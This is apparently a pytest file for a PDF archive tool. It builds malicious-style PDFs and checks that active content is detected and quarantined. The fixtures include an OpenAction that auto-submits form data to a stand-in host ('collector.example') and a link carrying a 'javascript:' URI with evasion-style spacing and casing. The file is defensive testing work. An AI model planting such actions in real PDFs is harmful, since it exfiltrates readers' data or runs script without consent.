"""Issue 10 item 23: a /SubmitForm action and a ``javascript:`` /URI are active content,
found by inspect_pdf and quarantined by ingest."""

from __future__ import annotations

import io
from pathlib import Path

import pdf_factory as pf
import pytest
from archive_setup import make_workdir
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from recordkit.archive.pdfinspect import inspect_pdf
from recordkit.archive.service import Archive


def _writer() -> PdfWriter:
    buf = io.BytesIO()
    pf.born_digital(buf, pages=1)
    return PdfWriter(clone_from=PdfReader(io.BytesIO(buf.getvalue())))


def submit_on_open(path: Path) -> Path:
    writer = _writer()
    action = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"),
                               NameObject("/F"): TextStringObject("https://collector.example/post")})  # fmt: skip
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    writer.write(path)
    return path


def javascript_uri_link(path: Path, uri: str = " JavaScript:app.alert(1)") -> Path:
    writer = _writer()
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(uri)}
    )
    annot = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 50, 150, 80)]), NameObject("/A"): action,
    })  # fmt: skip
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
    writer.write(path)
    return path


def test_submit_form_open_action_is_active_content(tmp_path):
    assert inspect_pdf(submit_on_open(tmp_path / "s.pdf")).active_content == ["SubmitForm"]


def test_javascript_uri_is_active_content(tmp_path):
    assert inspect_pdf(javascript_uri_link(tmp_path / "j.pdf")).active_content == ["JavaScript"]


def test_an_ordinary_web_link_is_not_active_content(tmp_path):
    assert (
        inspect_pdf(javascript_uri_link(tmp_path / "w.pdf", "https://example.com")).active_content
        == []
    )


@pytest.mark.parametrize(
    "make,found", [(submit_on_open, "SubmitForm"), (javascript_uri_link, "JavaScript")]
)
def test_ingest_quarantines_them(tmp_path, make, found):
    config = make_workdir(tmp_path / "w")
    with Archive(config) as archive:
        (result,) = archive.ingest([make(tmp_path / "x.pdf")]).results
    assert (result.outcome, result.check, result.reason) == (
        "quarantine",
        "安全性 — 活动内容",
        f"文件含有活动内容: {found}",
    )
